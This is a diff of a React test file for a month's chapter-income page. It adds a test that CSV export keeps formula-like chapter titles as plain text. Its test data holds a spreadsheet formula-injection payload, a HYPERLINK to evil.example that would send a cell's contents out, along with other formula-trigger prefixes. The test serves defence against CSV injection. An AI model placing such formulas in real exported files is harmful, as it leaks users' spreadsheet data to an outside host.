@@ -2,6 +2,7 @@ import 'fake-indexeddb/auto';
 import { fireEvent, screen, waitFor } from '@testing-library/react';
 import { expect, test } from 'vitest';
 import type { SessionView } from '#session/session-control.ts';
+import { parseCsv } from '#shared/domain/csv/parse-csv.ts';
 import type { BookId, UserId } from '#shared/domain/ids.ts';
 import { links } from '#shared/protocol/links.ts';
 import { showScreen } from '#test/support/screen.tsx';
@@ -12,8 +13,8 @@ const ID = '0190a000-0000-7000-8000-000000000001' as BookId;
 // An author no other test here uses, as the device stores their answers.
 const raka = { uid: 'raka' as UserId, name: 'Raka', role: 'author', alive: true } as SessionView;
 
-/** Shows the page of a month; the server has an empty list for each. */
-function show() {
+/** Shows the page of a month; the server has the same chapters for each, by default none. */
+function show(items: readonly object[] = []) {
   const asked: (string | undefined)[] = [];
   const navigated: unknown[] = [];
   const call = async (_: string, { request }: { request: { month?: string } }) => {
@@ -21,7 +22,7 @@ function show() {
     const month = request.month ?? '2026-03';
     const totals = { estimate: 0, verified: 0, paid: 0, amount: 0 };
     const months = ['2026-03', '2026-02', '2026-01'];
-    return { ok: true, value: { bookName: 'Hujan', month, months, items: [], totals, nextCursor: null } };
+    return { ok: true, value: { bookName: 'Hujan', month, months, items, totals, nextCursor: null } };
   };
   showScreen(
     <>
@@ -54,4 +55,19 @@ test('a month that is chosen stands in the address, in place of the one before',
   await month();
   fireEvent.change(await screen.findByRole('combobox'), { target: { value: '2026-03' } });
   expect(navigated).toEqual([[links.chapterIncome(ID, '2026-03'), { replace: true }]]);
+});
+
+test('a chapter’s title that looks like a formula stays text in the saved file', async () => {
+  const saved: Blob[] = [];
+  URL.createObjectURL = (file) => `blob:${saved.push(file as Blob)}`;
+  const sums = { estimate: -5, verified: 0, paid: 0, amount: -5 };
+  const titles = ['=HYPERLINK("http://evil.example/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '＝1', 'a",=1'];
+  show(titles.map((title, index) => ({ chapterId: `c${index}`, title, ...sums })));
+  fireEvent.click(await screen.findByRole('button', { name: 'money.income.csvOf' }));
+  await waitFor(() => expect(saved).toHaveLength(1));
+  const [, ...rows] = parseCsv((await saved[0]?.text()) ?? '').map(({ cells }) => cells);
+  const [formulas, [plain]] = [titles.slice(0, -1), titles.slice(-1)];
+  expect(rows.map((cells) => cells[1])).toEqual([...formulas.map((title) => `'${title}`), plain]);
+  // An amount is a number, also a negative one.
+  expect(rows.map((cells) => cells.at(-1))).toEqual(titles.map(() => '-0.05'));
 });
